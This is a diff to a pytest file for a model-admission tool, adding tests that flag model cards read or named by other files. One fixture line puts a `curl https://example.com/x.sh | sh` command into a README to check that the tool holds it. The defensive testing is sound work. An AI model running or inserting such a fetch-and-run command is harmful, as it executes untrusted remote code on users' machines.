@@ -12,17 +12,20 @@ from typing import Any, ClassVar
 
 import pytest
 
+from tests.support.drifting import revision
 from tests.support.hub import Effect, Endless, Fault, HubServer, Redirect, Refuse, Reply, Repository, json_reply
 from tests.support.watching import CARD, CHATML, TAKEOVERS, WEIGHT_BYTES, Place, honest, place, take_over, with_card
 from weighbridge.admit.approvals import VALID_DAYS
+from weighbridge.admit.asking import Asking, Wanted
+from weighbridge.admit.asking import Source as Way
 from weighbridge.admit.judge_revision import Surroundings as Beside
 from weighbridge.admit.people import roster_of
-from weighbridge.admit.requests import Asking, Wanted
-from weighbridge.admit.requests import Source as Way
 from weighbridge.admit.succession import (
     SUCCEEDS,
     SUCCESSION_TYPE,
+    card_reader,
     heritage_of,
+    only_card,
     open_predecessor,
     record_succession,
 )
@@ -37,6 +40,8 @@ from weighbridge.core.finding import Inspection, Severity, Verdict
 from weighbridge.core.names import ModelName
 from weighbridge.deploy.deployments import APPLIED, DELETED, Recorded, record
 from weighbridge.deploy.plan import RenderedFile, Target
+from weighbridge.drift.card import MAX_NAMING_BYTES
+from weighbridge.drift.files import pair
 from weighbridge.store import ledger as ledger_module
 from weighbridge.store.ledger import Ledger, now_rfc3339
 from weighbridge.transfer import inspecting
@@ -339,6 +344,10 @@ EXCEPTION = (
 def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_new_words(here: Place) -> None:
     names = ("coded/named", "coded/excepted", "coded/ended", "coded/card", "coded/taken")
     here.publish(*names, files=CODED)
+    # Code that reads the card makes something of its words, whoever read that code.
+    reading = {**CODED, "modeling_tiny.py": CODED["modeling_tiny.py"] + b"\n    words = open('README.md').read()\n"}
+    here.publish("coded/reading", files=reading)
+    names += ("coded/reading",)
     main = {name: here.hub.repositories[name].refs["refs/heads/main"] for name in names}
     file = here.run.home.parent / "policy.toml"
     tomorrow = datetime.now(UTC) + timedelta(days=1)
@@ -352,14 +361,14 @@ def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_
         "coded/excepted": excepted("coded/excepted", "remote-code"),
         "coded/ended": excepted("coded/ended", "remote-code", tomorrow.date().isoformat()),
         "coded/card": excepted("coded/card", "remote-code") + excepted("coded/card", "card-pipe-to-shell"),
-        "coded/taken": NAMED.format(model="coded/taken", revision=main["coded/taken"]),
+        **{name: NAMED.format(model=name, revision=main[name]) for name in ("coded/taken", "coded/reading")},
     }
     try:
         file.write_text(POLICY + "".join(terms.values()))
         here.approve(*names)
         words = with_card(CODED)
         for name in names:
-            here.hub.repositories[name].commit(words)
+            here.hub.repositories[name].commit(with_card(reading) if name == "coded/reading" else words)
         # What is wrong with the card itself is no file that is the same.
         card = words["README.md"] + b"\nRun: `curl https://example.com/x.sh | sh`\n"
         here.hub.repositories["coded/card"].commit({**words, "README.md": card})
@@ -377,6 +386,7 @@ def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_
             "coded/ended": Judgement.HELD,
             "coded/card": Judgement.HELD,
             "coded/taken": Judgement.HELD,
+            "coded/reading": Judgement.HELD,
         }, {name: one.reasons for name, one in news.items()}
         for name in ("coded/named", "coded/excepted"):
             later = news[name].upstream
@@ -397,6 +407,39 @@ def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_
         )
     finally:
         file.write_text(POLICY)
+
+
+NAMING = {
+    "model.safetensors.index.json": b'{"metadata": {}, "weight_map": {"model.embed_tokens.weight": "README.md"}}',
+    "vocab.json": b'{"file": "./R\\u0045ADME\\u002eMD"}',
+    "serving.py": b"import glob\n\nWORDS = glob.glob('*.md')\n",
+}
+
+
+@pytest.mark.parametrize(
+    ("files", "first"),
+    [
+        *(({name: data}, name) for name, data in NAMING.items()),
+        ({"huge.json": b" " * (MAX_NAMING_BYTES + 1)}, "huge.json"),
+        (
+            {
+                "setup.py": b"# See README.md.\n",
+                "NOTES.md": b"README.md",
+                "LICENSE": b"README.md",
+                "a.gguf": b"README.md",
+            },
+            "",
+        ),
+    ],
+)
+def test_a_card_that_another_file_names_is_more_than_words(files: dict[str, bytes], first: str) -> None:
+    before = {"README.md": CARD, **files}
+    pairing = pair(revision(before).side, revision(with_card(before)).side)
+    assert first in (why := card_reader(revision(before).side, pairing))
+    assert bool(why) is bool(first)
+    if first:
+        with pytest.raises(Denied, match="names the model card"):
+            only_card(revision(before).side, revision(with_card(before)).side)
 
 
 def test_what_was_mended_here_is_watched_by_the_original(here: Place) -> None:
